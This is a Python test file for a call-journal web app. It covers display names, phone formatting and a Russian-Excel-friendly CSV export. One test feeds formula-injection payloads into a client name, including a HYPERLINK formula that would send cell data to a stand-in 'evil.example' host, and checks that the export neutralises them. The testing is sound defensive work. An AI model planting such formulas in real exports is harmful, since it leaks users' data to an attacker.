"""The journal as people read it: names beside extensions and numbers as written at home in the JSON,
and a CSV export that Russian Excel opens as columns (real server, SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

from pbxbridge.web.calls_csv import COLUMNS, duration, export_filename, safe_cell
from pbxbridge.web.i18n import load_catalog
from tests.fixtures_web import (  # noqa: F401 - fixtures
    IVAN_CLIENT,
    fast_password_hashing,
    populated_templates,
    whisper_transcript,
)
from tests.test_web_api import Site, site  # noqa: F401 - the web app over both databases

BOM = b"\xef\xbb\xbf"
ENGLISH = {"Accept-Language": "en-US,en;q=0.9"}
RUSSIAN = {"Accept-Language": "ru-RU,ru;q=0.9"}
# The captured blind transfer: 203 answered and passed the client to 202.
TRANSFERRED_CLIENT = "+79164440001"


async def _journal(client: Any, **params: str) -> list[dict[str, Any]]:
    status, page = await client.json("GET", "/api/calls", params={"per_page": "200", **params})
    assert status == 200, page
    return list(page["items"])


async def _export(client: Any, headers: dict[str, str], **params: str) -> tuple[bytes, str]:
    async with client.send("GET", "/api/calls/export.csv", params=params, headers=headers) as export:
        assert export.status == 200 and export.content_type == "text/csv"
        return await export.read(), export.headers["Content-Disposition"]


def _table(body: bytes) -> list[list[str]]:
    assert body.startswith(BOM)
    text = body[len(BOM):].decode("utf-8")
    # Every row ends in CRLF, and no bare LF stands between rows.
    assert text.endswith("\r\n") and text.count("\n") == text.count("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


async def test_each_call_carries_names_beside_extensions_and_numbers_as_people_read_them(site: Site) -> None:
    olga = await site.signed_in("olga")
    calls = await _journal(olga)
    (ivan,) = [c for c in calls if c["id"] == site.data.ivan_call_id]
    # The raw fields stay for machines; the display ones are what the page shows.
    assert (ivan["client_number"], ivan["client_number_display"]) == (IVAN_CLIENT, "+7 (916) 111-00-01")
    assert (ivan["manager"], ivan["manager_name"]) == ("203", "Anna Kuznetsova")
    assert ivan["transfers"] == []
    (moved,) = [c for c in calls if c["client_number"] == TRANSFERRED_CLIENT]
    assert (moved["manager"], moved["manager_name"], moved["final_manager"], moved["final_manager_name"]) == (
        "203", "Anna Kuznetsova", "202", "Olga Smirnova")
    assert moved["transferred_to"] == ["202"]
    assert moved["transfers"] == [{"to": "202", "name": "Olga Smirnova", "display": "202"}]
    internal = [c for c in calls if c["direction"] == "internal" and c["manager"] == "201"]
    assert internal and all((c["callee"], c["callee_name"]) == ("202", "Olga Smirnova") for c in internal)
    # One call read on its own says the same.
    _, detail = await olga.json("GET", f"/api/calls/{site.data.ivan_call_id}")
    assert (detail["client_number_display"], detail["manager_name"]) == ("+7 (916) 111-00-01", "Anna Kuznetsova")


async def test_csv_opens_in_russian_excel_as_the_pages_columns_with_local_times(site: Site) -> None:
    olga = await site.signed_in("olga")
    body, disposition = await _export(olga, RUSSIAN, direction="inbound")
    header, *rows = _table(body)
    russian = load_catalog("ru").translations
    assert header == [russian.gettext(h) for h in COLUMNS]
    assert all(len(r) == len(header) for r in rows)
    # The rows are the journal's, in its order (newest first).
    calls = await _journal(olga, direction="inbound")
    assert len(rows) == len(calls)
    at = {h: i for i, h in enumerate(COLUMNS)}
    ivan_row = rows[[c["id"] for c in calls].index(site.data.ivan_call_id)]
    # Answered at 20:04:09 UTC on 26.11.2026: 23:04:09 in Moscow, a date Russian Excel reads.
    assert ivan_row[at["Started"]] == "26.11.2026 23:04:09"
    assert ivan_row[at["Direction"]] == russian.gettext("Inbound")
    assert ivan_row[at["Status"]] == russian.gettext("Answered")
    assert ivan_row[at["Manager"]] == "Anna Kuznetsova (203)"
    # A number starts with "+": kept as text, not read as a formula.
    assert ivan_row[at["Client number"]] == "'+7 (916) 111-00-01"
    assert (ivan_row[at["Wait"]], ivan_row[at["Talk"]]) == ("0:00:02", "0:00:28")
    assert (ivan_row[at["Recording"]], ivan_row[at["Transcript"]]) == (russian.gettext("Yes"),) * 2
    (moved,) = [r for r in rows if r[at["Client number"]] == "'+7 (916) 444-00-01"]
    assert moved[at["Transferred to"]] == "Olga Smirnova (202)"
    days = sorted({r[at["Started"]][:10] for r in rows}, key=lambda d: d[6:] + d[3:5] + d[:2])
    assert disposition == f'attachment; filename="calls_{days[0]}-{days[-1]}.csv"' if len(days) > 1 else (
        f'attachment; filename="calls_{days[0]}.csv"')


async def test_csv_in_english_names_the_days_asked_for_and_adds_where_a_search_found_its_words(
    site: Site,
) -> None:
    olga = await site.signed_in("olga")
    body, disposition = await _export(olga, ENGLISH, **{"from": "2026-11-26", "to": "2026-11-27"})
    header, *days = _table(body)
    assert header == ["Started", "Direction", "Status", "Client", "Client number", "Manager", "Transferred to",
                      "Wait", "Talk", "Recording", "Transcript"]
    assert disposition == 'attachment; filename="calls_26.11.2026-27.11.2026.csv"'
    assert days and all(r[0][:10] in ("26.11.2026", "27.11.2026") for r in days)
    body, disposition = await _export(olga, ENGLISH, q="информацию")
    header, found = _table(body)
    assert header[-1] == "Found" and "информация" in found[-1] and "[" not in found[-1]
    assert found[0] == "26.11.2026 23:04:09" and disposition == 'attachment; filename="calls_26.11.2026.csv"'
    # Both exports are in the audit log with how many rows they held.
    _, log = await olga.json("GET", "/api/audit")
    exported = sorted(e["details"]["rows"] for e in log["items"] if e["action"] == "export_calls")
    assert exported == sorted([len(days), 1])


async def test_a_formula_typed_into_a_clients_name_stays_text_in_the_csv(site: Site) -> None:
    olga = await site.signed_in("olga")
    at = {h: i for i, h in enumerate(COLUMNS)}
    for typed in ('=HYPERLINK("http://evil.example/?"&A1;"Прайс")', "+1+2", "-2+3", "@SUM(1;2)"):
        status, card = await olga.json("PATCH", f"/api/clients/{site.data.ivan_client_id}", json={"name": typed})
        assert status == 200, card
        body, _ = await _export(olga, ENGLISH, client_id=str(site.data.ivan_client_id))
        _header, *rows = _table(body)
        assert rows and all(r[at["Client"]] == "'" + typed for r in rows), (typed, rows)


def test_cells_as_excel_reads_them() -> None:
    assert [duration(s) for s in (None, 0, 27.6, 125, 3725)] == ["", "0:00:00", "0:00:28", "0:02:05", "1:02:05"]
    assert [safe_cell(v) for v in ("=1+1", "+7 (916) 111-00-01", "-5", "@A1", "Иван", "", "5-й")] == [
        "'=1+1", "'+7 (916) 111-00-01", "'-5", "'@A1", "Иван", "", "5-й"]
    # A day asked for is the department's day, "to" included; with no days asked, those of the calls.
    asked = export_filename(datetime(2026, 12, 6, 21, tzinfo=UTC), datetime(2026, 12, 8, 21, tzinfo=UTC), [],
                            "Europe/Moscow")
    assert asked == "calls_07.12.2026-08.12.2026.csv"
    calls = [{"started_at": "2026-12-07T20:59:00Z"}, {"started_at": "2026-12-07T21:01:00Z"}]
    assert export_filename(None, None, calls, "Europe/Moscow") == "calls_07.12.2026-08.12.2026.csv"
    assert export_filename(None, None, [], "Europe/Moscow") == "calls.csv"
